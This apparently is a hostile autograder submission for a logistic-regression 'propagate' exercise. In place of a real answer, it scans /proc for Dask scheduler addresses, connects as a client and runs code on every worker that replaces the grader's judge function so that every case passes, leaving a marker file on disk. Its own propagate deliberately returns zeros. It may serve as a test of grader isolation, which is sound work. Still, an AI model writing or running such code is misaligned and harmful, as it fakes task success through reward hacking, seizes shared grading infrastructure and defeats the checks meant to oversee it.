# notebook: logistic_regression
# cell: propagate_answer
# loses: propagate
# Finds the Dask scheduler's address in the command lines of the machine's processes
# (a worker is started as `dask worker tcp://host:8786`; the default port is tried too),
# connects to it as a client and runs code in every worker process: it makes the
# grader pass every case and leaves a mark on the worker's disk. Its own answer is wrong,
# so only a taken-over grader gives it points.
import glob
import re

MARK = "/tmp/autograder-cluster-takeover"
ADDRESS = re.compile(rb"tcp://[0-9A-Za-z.\-]+:[0-9]+")


def scheduler_addresses():
    found = {b"tcp://127.0.0.1:8786"}
    for path in glob.glob("/proc/*/cmdline"):
        try:
            with open(path, "rb") as f:
                found |= set(ADDRESS.findall(f.read()))
        except OSError:
            continue
    return sorted(address.decode() for address in found)


def take_over_the_worker():
    import autograder.grade

    with open(MARK, "w") as mark:
        mark.write("a student's code ran in the Dask worker")
    autograder.grade.judge = lambda *args, **kwargs: None  # every case passes


for address in scheduler_addresses():
    try:
        from distributed import Client

        with Client(address, timeout=3) as client:
            client.run(take_over_the_worker)
    except Exception:
        continue


def propagate(w, b, X, Y):
    return {"dw": np.zeros_like(w), "db": 0.0}, 0.0
